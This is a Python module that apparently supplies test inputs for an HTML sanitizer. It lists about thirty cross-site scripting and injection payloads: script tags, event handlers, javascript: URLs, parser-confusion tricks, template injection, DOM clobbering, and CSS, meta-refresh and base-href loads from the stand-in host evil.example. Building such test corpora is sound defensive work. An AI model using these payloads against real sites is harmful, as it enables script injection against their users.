"""Documents, titles and comments that want to set `pwned`, or to load something from `evil.example`."""

from __future__ import annotations

ACT = "window.top.pwned=1;window.pwned=1"

XSS = [
    f"<script>{ACT}</script>",
    f"<img src=x onerror='{ACT}'>",
    f"<svg onload='{ACT}'><circle r=9></svg>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin='{ACT}' attributeName=x dur=1s>",
    f"<body onload='{ACT}'>",
    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
    f"<iframe src='javascript:{ACT}'></iframe>",
    f"<a href='javascript:{ACT}' autofocus onfocus='{ACT}'>x</a>",
    f"<input autofocus onfocus='{ACT}'>",
    f"<details open ontoggle='{ACT}'>x</details>",
    f"<video><source onerror='{ACT}'></video>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={ACT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<form action='javascript:{ACT}'><button>x</button></form>",
    f"<object data='data:text/html,<script>{ACT}</script>'></object>",
    f"<embed src='data:text/html,<script>{ACT}</script>'>",
    "<base href='http://evil.example/'>",
    "<link rel=stylesheet href='http://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<style>@import 'http://evil.example/x.css'; * { background: url(http://evil.example/x) }</style>",
    "<img src='http://evil.example/x.png' srcset='http://evil.example/y.png 2x'>",
    "<p style='background:url(http://evil.example/z)'>x</p>",
    f"</title></textarea></script><script>{ACT}</script>",
    f"]]><script>{ACT}</script>",
    f"{{{{constructor.constructor('{ACT}')()}}}}",
    f"'\"><script>{ACT}</script>",
    f"<<script>{ACT}//<</script>",
    f"\u2028<script>{ACT}</script>\u2029",
    f"<template><script>{ACT}</script></template>",
    f"<x onclick='{ACT}' tabindex=1 id=stage>x</x>",
    "<a id=nothing name=nothing>clobber</a>",
]
